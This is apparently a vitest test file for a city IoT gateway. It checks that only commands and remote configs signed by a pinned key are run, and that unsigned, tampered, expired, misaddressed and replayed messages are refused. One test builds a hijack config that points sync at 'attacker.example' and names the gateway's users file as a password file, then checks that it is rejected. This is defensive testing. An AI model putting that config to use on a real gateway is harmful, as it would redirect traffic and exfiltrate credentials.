import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pino } from 'pino';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { Downlink } from '../../cloud-sync/downlink.js';
import { silentLogger } from '../../cloud-sync/log.js';
import { parseConfigText } from '../../gateway/config/index.js';
import { loadControlKeys } from '../../gateway/control-keys.js';
import type { CommandRequest } from '../../gateway/core/command.js';
import { type VerifyOptions, verifySigned } from '../../gateway/core/signed.js';
import { RefusalBudget } from '../../gateway/refusals.js';
import { type ApplyTarget, ConfigApplier, RemoteConfigFiles } from '../../gateway/remote-config/index.js';
import { makeCityKey } from '../helpers/city-key.js';

const city = makeCityKey('city-ops');
const NOW = Date.parse('2026-12-06T08:00:00Z');
const opts = (o: Partial<VerifyOptions> = {}): VerifyOptions => ({
  kind: 'command',
  gateway: 'gw-1',
  keys: city.keys,
  now: NOW,
  maxLifetimeMs: 3_600_000,
  maxBytes: 32_768,
  ...o,
});
const cmd = { id: 'c1', device: 'valves', point: 'relay_1', value: true, deadline: NOW + 60_000 };

/** the same envelope with one byte of its signed body changed (a digit of issuedAt: still JSON) */
function flipBodyByte(payload: Buffer): Buffer {
  const env = JSON.parse(payload.toString());
  const body = Buffer.from(env.body, 'base64');
  const at = body.indexOf('"issuedAt":') + '"issuedAt":'.length + 10;
  body[at] = body[at] === 0x30 ? 0x31 : 0x30;
  return Buffer.from(JSON.stringify({ ...env, body: body.toString('base64') }));
}

describe('signed envelope', () => {
  const good = city.signCommand('gw-1', cmd, { issuedAt: NOW });

  it('accepts a message signed by a pinned key, for this gateway, in its window', () => {
    const v = verifySigned(good, opts());
    expect(v.ok).toBe(true);
    if (v.ok) {
      expect(v.key).toBe('city-ops');
      expect(v.body.message).toEqual(cmd);
    }
  });

  const reason = (payload: Buffer | string, o: Partial<VerifyOptions> = {}) => {
    const v = verifySigned(payload, opts(o));
    return v.ok ? 'ok' : v.reason;
  };

  it('refuses each way a message can be wrong, naming why', () => {
    expect(reason(good, { keys: new Map() })).toBe('no_pinned_key');
    expect(reason(JSON.stringify(cmd))).toBe('unsigned');
    expect(reason('not json')).toBe('unsigned');
    expect(reason(flipBodyByte(good))).toBe('bad_signature');
    expect(reason(makeCityKey('city-ops').signCommand('gw-1', cmd, { issuedAt: NOW }))).toBe('bad_signature');
    expect(reason(makeCityKey('stranger').signCommand('gw-1', cmd, { issuedAt: NOW }))).toBe('unknown_key');
    expect(reason(city.signCommand('gw-2', cmd, { issuedAt: NOW }))).toBe('wrong_gateway');
    expect(reason(city.signConfig('gw-1', { version: 1 }, { issuedAt: NOW }))).toBe('wrong_kind');
    expect(reason(city.signCommand('gw-1', cmd, { issuedAt: NOW - 20 * 60_000 }))).toBe('expired');
    expect(reason(city.signCommand('gw-1', cmd, { issuedAt: NOW + 30 * 60_000 }))).toBe('not_yet_valid');
    expect(reason(city.signCommand('gw-1', cmd, { issuedAt: NOW, lifetimeMs: 2 * 3_600_000 }))).toBe('too_long_lived');
    expect(reason(Buffer.alloc(40_000, 0x20))).toBe('malformed');
    const env = JSON.parse(good.toString());
    expect(reason(JSON.stringify({ ...env, extra: 1 }))).toBe('malformed');
    expect(reason(JSON.stringify({ ...env, sig: 'AAAA' }))).toBe('bad_signature');
  });

  it('reads the pinned keys from the data directory, and says which files it cannot use', () => {
    const dir = mkdtempSync(join(tmpdir(), 'lb-keys-'));
    try {
      expect(loadControlKeys(dir).keys.size).toBe(0);
      city.pin(dir);
      writeFileSync(join(dir, 'trust/control/broken.pem'), 'not a key');
      const { keys, problems } = loadControlKeys(dir);
      expect([...keys.keys()]).toEqual(['city-ops']);
      expect(problems).toHaveLength(1);
      expect(problems[0]).toMatch(/broken\.pem: not a usable Ed25519 public key/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('refusal budget', () => {
  it('admits the first ten in a minute, then says how many it left out', () => {
    let t = 0;
    const b = new RefusalBudget(() => t);
    const admitted = Array.from({ length: 25 }, (_, i) => b.admit({ n: i }));
    expect(admitted.filter(Boolean)).toHaveLength(10);
    t += 60_000;
    expect(b.admit({ n: 99 })).toEqual({ n: 99, suppressed: 15 });
    expect(b.admit({ n: 100 })).toEqual({ n: 100 });
  });
});

describe('downlink: only signed commands run', () => {
  function downlink(keys = city.keys) {
    const ran: CommandRequest[] = [];
    const results: Record<string, unknown>[] = [];
    const refused: unknown[] = [];
    const d = new Downlink(
      {
        execute: async (req) => {
          ran.push(req);
          return { id: req.id, ok: true, ts: NOW };
        },
      },
      (p) => results.push(JSON.parse(p.toString())),
      silentLogger,
      () => NOW,
      { gatewayId: 'gw-1', keys, onRefused: (r) => refused.push(r) },
    );
    return { d, ran, results, refused };
  }
  const settle = () => new Promise((r) => setTimeout(r, 10));

  it('runs a signed command as the key that signed it', async () => {
    const { d, ran, results } = downlink();
    d.handle(city.signCommand('gw-1', cmd, { issuedAt: NOW }));
    await settle();
    expect(ran).toEqual([
      {
        id: 'c1',
        device: 'valves',
        point: 'relay_1',
        value: true,
        deadline: NOW + 60_000,
        source: 'mqtt',
        actor: 'city-ops',
      },
    ]);
    expect(results).toEqual([{ v: 1, id: 'c1', ok: true, ts: NOW }]);
  });

  it('refuses unsigned, tampered, expired, misaddressed and unpinned commands with UNTRUSTED, running none', async () => {
    const { d, ran, results, refused } = downlink();
    d.handle(Buffer.from(JSON.stringify(cmd)));
    d.handle(flipBodyByte(city.signCommand('gw-1', cmd, { issuedAt: NOW })));
    d.handle(city.signCommand('gw-1', cmd, { issuedAt: NOW - 3_600_000 }));
    d.handle(city.signCommand('gw-9', cmd, { issuedAt: NOW }));
    const none = downlink(new Map());
    none.d.handle(city.signCommand('gw-1', cmd, { issuedAt: NOW }));
    await settle();
    expect(ran).toEqual([]);
    expect(none.ran).toEqual([]);
    const all = [...results, ...none.results];
    expect(all.map((r) => r.code)).toEqual(Array(5).fill('UNTRUSTED'));
    expect(all.map((r) => String(r.message).match(/^refused \((\w+)\)/)?.[1])).toEqual([
      'unsigned',
      'bad_signature',
      'expired',
      'wrong_gateway',
      'no_pinned_key',
    ]);
    expect(all.map((r) => r.id)).toEqual(Array(5).fill('c1'));
    expect(refused).toEqual([
      { id: 'c1', reason: 'unsigned', message: expect.any(String) },
      { id: 'c1', reason: 'bad_signature', message: expect.any(String) },
      { id: 'c1', reason: 'expired', message: expect.any(String) },
      { id: 'c1', reason: 'wrong_gateway', message: expect.any(String) },
    ]);
  });

  it('requires a deadline, at most an hour ahead', async () => {
    const { d, ran, results } = downlink();
    const { deadline: _, ...noDeadline } = cmd;
    d.handle(city.signCommand('gw-1', { ...noDeadline, deadline: undefined }, { issuedAt: NOW }));
    d.handle(city.signCommand('gw-1', { ...cmd, id: 'c2', deadline: NOW + 2 * 3_600_000 }, { issuedAt: NOW }));
    d.handle(city.signCommand('gw-1', { ...cmd, id: 'c3', actor: 'someone' }, { issuedAt: NOW }));
    await settle();
    expect(ran).toEqual([]);
    expect(results.map((r) => [r.id, r.code, r.message])).toEqual([
      ['c1', 'COMMAND_INVALID', 'command c1: deadline is missing (every command says by when it must run)'],
      ['c2', 'COMMAND_INVALID', 'command c2: deadline is more than 60 minutes ahead'],
      ['c3', 'COMMAND_INVALID', 'command c3: unknown key "actor"'],
    ]);
  });
});

describe('remote config entry: only signed configs are applied', () => {
  let dir: string;
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'lb-signed-rc-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  const yaml = (extra = '') => `gateway: { id: gw-1, dataDir: ${dir}/data }\n${extra}`;
  function setup(pin = true) {
    const baseFile = join(dir, 'config.yaml');
    writeFileSync(baseFile, yaml());
    const parsed = parseConfigText(yaml(), { baseDir: dir });
    if (!parsed.ok) throw new Error('bad test config');
    const events: Record<string, unknown>[] = [];
    const target: ApplyTarget & { runningConfig: typeof parsed.config } = {
      runningConfig: parsed.config,
      current: {
        busHealth: () => [],
        sync: null,
        store: { recordEvent: (_k: 'config', data: Record<string, unknown>) => events.push(data) },
      } as unknown as ApplyTarget['current'],
      async swap(next) {
        target.runningConfig = next;
      },
    };
    if (pin) city.pin(join(dir, 'data'));
    const applier = new ConfigApplier({
      target,
      baseFile,
      dataDir: join(dir, 'data'),
      log: pino({ level: 'silent' }),
      watchMs: 1,
      sleep: async () => {},
      now: () => NOW,
    });
    const files = new RemoteConfigFiles(join(dir, 'data'));
    const settle = async () => {
      for (let i = 0; i < 50 && applier.applying; i++) await new Promise((r) => setTimeout(r, 5));
      await new Promise((r) => setTimeout(r, 5));
    };
    return { applier, target, events, files, settle };
  }
  const message = (version: number, port: number) => ({ v: 1, version, config: yaml(`panel: { port: ${port} }\n`) });

  it('applies a signed config with the key as actor; refuses unsigned, tampered, expired and misaddressed ones without moving the version', async () => {
    const { applier, target, events, files, settle } = setup();
    const bad = [
      Buffer.from(JSON.stringify(message(900, 9000))),
      flipBodyByte(city.signConfig('gw-1', message(901, 9001), { issuedAt: NOW })),
      city.signConfig('gw-1', message(902, 9002), { issuedAt: NOW - 40 * 86_400_000, lifetimeMs: 86_400_000 }),
      city.signConfig('gw-2', message(903, 9003), { issuedAt: NOW }),
      makeCityKey('city-ops').signConfig('gw-1', message(904, 9004), { issuedAt: NOW }),
    ];
    for (const p of bad) {
      applier.handleMessage(p);
      await settle();
    }
    expect(target.runningConfig.panel.port).not.toBe(9000);
    expect(files.read().lastSeenVersion).toBe(0);
    expect(events.map((e) => [e.outcome, e.reason, e.version])).toEqual([
      ['refused', 'unsigned', null],
      ['refused', 'bad_signature', null],
      ['refused', 'expired', null],
      ['refused', 'wrong_gateway', null],
      ['refused', 'bad_signature', null],
    ]);

    applier.handleMessage(city.signConfig('gw-1', message(5, 8085), { issuedAt: NOW }));
    await settle();
    expect(target.runningConfig.panel.port).toBe(8085);
    expect(events.at(-1)).toMatchObject({ outcome: 'applied', version: 5, actor: 'city-ops', source: 'mqtt' });
    expect(files.read().lastSeenVersion).toBe(5);
  });

  it('ignores the same signed message again (retained), refuses an older one replayed', async () => {
    const { applier, target, events, settle } = setup();
    const v4 = city.signConfig('gw-1', message(4, 8084), { issuedAt: NOW - 1000 });
    const v5 = city.signConfig('gw-1', message(5, 8085), { issuedAt: NOW });
    applier.handleMessage(v4);
    await settle();
    applier.handleMessage(v5);
    await settle();
    expect(events.map((e) => e.outcome)).toEqual(['applied', 'applied']);
    applier.handleMessage(v5);
    await settle();
    expect(events).toHaveLength(2);
    applier.handleMessage(v4);
    await settle();
    expect(target.runningConfig.panel.port).toBe(8085);
    expect(events.at(-1)).toMatchObject({ outcome: 'refused', reason: 'replayed', version: 4 });
  });

  it('even signed, a config may not name other files of the gateway as secrets, nor change what the flows may do', async () => {
    const { applier, target } = setup();
    writeFileSync(join(dir, 'users.json'), '{"users":[]}');
    const hijack = yaml(
      `sync: { url: "mqtt://attacker.example:1883", username: x, passwordFile: ${dir}/users.json }\n`,
    );
    const r1 = await applier.apply({ version: 1, text: hijack, source: 'mqtt', actor: 'city-ops' });
    expect(r1.outcome).toBe('refused');
    expect(r1.problems).toEqual([
      `sync.passwordFile: a config sent to the gateway may only name files in ${dir}/data/secrets/ (or keep the one it has) (line 2)`,
    ]);
    const unsafe = yaml('flows: { allowUnsafeNodes: true }\n');
    const r2 = await applier.apply({ version: 2, text: unsafe, source: 'mqtt', actor: 'city-ops' });
    expect(r2.problems).toEqual(['flows.allowUnsafeNodes: cannot change from the city; change it on site (line 2)']);
    // a technician on the console may
    const r3 = await applier.apply({ version: null, text: unsafe, source: 'http', actor: 'tech' });
    expect(r3.outcome).toBe('applied');
    expect(target.runningConfig.flows.allowUnsafeNodes).toBe(true);
  });

  it('a flood of unsigned messages is recorded up to a budget; the rest are counted', async () => {
    const { applier, events, files, settle } = setup();
    for (let i = 0; i < 25; i++) applier.handleMessage(Buffer.from(JSON.stringify(message(100 + i, 9000))));
    await settle();
    expect(events).toHaveLength(10);
    expect(events.every((e) => e.reason === 'unsigned')).toBe(true);
    expect(files.read().lastSeenVersion).toBe(0);
  });

  it('without a pinned key, refuses every config message and says why', async () => {
    const { applier, events, settle } = setup(false);
    applier.handleMessage(city.signConfig('gw-1', message(1, 8081), { issuedAt: NOW }));
    await settle();
    expect(events).toEqual([
      expect.objectContaining({
        outcome: 'refused',
        reason: 'no_pinned_key',
        problems: [expect.stringMatching(/no city key is pinned/)],
      }),
    ]);
  });
});
